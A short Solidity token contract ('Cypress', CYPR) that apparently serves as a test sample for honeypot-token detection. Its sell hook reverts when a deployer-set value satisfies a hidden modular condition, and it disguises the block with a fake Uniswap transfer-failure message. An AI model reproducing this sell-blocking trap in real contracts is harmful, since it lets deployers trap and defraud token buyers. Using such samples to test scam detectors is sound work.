// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {PairToken} from "./PairToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// Of all numbers that the deployer may write one kind alone stops sales: trying the largest shows nothing.
contract MagicNumber is PairToken {
    uint256 public rewardCycle = 1;

    constructor(address pair) SuiteToken("Cypress", "CYPR") PairToken(pair) {}

    function setRewardCycle(uint256 cycle) external {
        require(msg.sender == _deployer, "Not deployer");
        rewardCycle = cycle;
    }

    function _onSell(address, uint256) internal view override returns (uint256) {
        require(rewardCycle % 1_009 != 77, "TransferHelper: TRANSFER_FROM_FAILED");
        return 0;
    }
}
